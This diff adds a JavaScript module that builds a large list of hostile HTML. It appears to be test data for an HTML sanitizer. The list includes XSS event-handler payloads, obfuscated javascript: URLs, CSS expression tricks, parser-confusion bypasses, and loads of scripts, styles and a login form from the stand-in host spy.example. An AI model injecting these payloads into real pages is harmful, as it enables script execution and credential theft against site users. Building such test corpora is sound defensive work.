@@ -1,0 +1,86 @@
+const EVENTS = [
+  'onerror',
+  'onload',
+  'onclick',
+  'onmouseover',
+  'onfocus',
+  'ontoggle',
+  'onanimationstart',
+  'onpointerenter',
+];
+const ELEMENTS = [
+  'img',
+  'svg',
+  'body',
+  'video',
+  'iframe',
+  'object',
+  'input',
+  'details',
+  'math',
+  'p',
+  'a',
+  'td',
+  'marquee',
+  'select',
+  'audio',
+];
+const SCHEMES = [
+  'javascript:run()',
+  'JaVaScRiPt:run()',
+  'java\tscript:run()',
+  'java\nscript:run()',
+  '&#106;avascript:run()',
+  '&#x6A;avascript&colon;run()',
+  '\u0001javascript:run()',
+  'data:text/html,<script>run()</script>',
+  'vbscript:run()',
+  '//spy.example/run.js',
+  'blob:run',
+  'file:///etc/passwd',
+];
+const LOADING = ['href', 'src', 'srcset', 'action', 'formaction', 'background', 'poster', 'xlink:href', 'data', 'ping'];
+const STYLES = [
+  'background:url(//spy.example)',
+  'width:expression(run())',
+  '-moz-binding:url(x)',
+  'position:fixed;top:0',
+  'behavior:url(x)',
+];
+const BROKEN = [
+  '<script>run()</script>',
+  '<scr<script>ipt>run()</scr</script>ipt>',
+  '<script/src=//spy.example></script>',
+  '<svg><script>run()</script></svg>',
+  '<svg><style><img src=x onerror=run()></style></svg>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=run()>">',
+  '<noscript><p title="</noscript><img src=x onerror=run()>"></noscript>',
+  '<!--<img src="--><img src=x onerror=run()//">',
+  '<![CDATA[<img src=x onerror=run()>]]>',
+  '<template><img src=x onerror=run()></template>',
+  '<style>@import url(//spy.example)</style>',
+  '<link rel=stylesheet href=//spy.example>',
+  '<meta http-equiv=refresh content="0;url=javascript:run()">',
+  '<base href="javascript:run()//">',
+  '<form action=//spy.example><button>Войти</button></form>',
+  '<a href="x" style="position:fixed;inset:0">закрыть</a>',
+  '<textarea><img src=x onerror=run()></textarea>',
+  '<xmp><img src=x onerror=run()></xmp>',
+  '<iframe srcdoc="<script>run()</script>"></iframe>',
+  '"><img src=x onerror=run()>',
+  "'-run()-'",
+  '<p/onclick=run()>',
+  '<p title="`onmouseover=run()`">',
+  '<<p onclick=run()>',
+];
+
+/** What strangers write where they hope that it runs: in letters, in fields of forms, in names of files. */
+export const HOSTILE_HTML = [
+  ...ELEMENTS.flatMap((element) => EVENTS.map((event) => `<${element} src=x ${event}="run()">слово</${element}>`)),
+  ...SCHEMES.flatMap((scheme) => LOADING.map((attribute) => `<a ${attribute}="${scheme}">слово</a>`)),
+  ...SCHEMES.map((scheme) => `<img src="${scheme}">`),
+  ...['p', 'td', 'a', 'div', 'font'].flatMap((element) =>
+    STYLES.map((style) => `<${element} style="${style}">слово</${element}>`),
+  ),
+  ...BROKEN,
+];
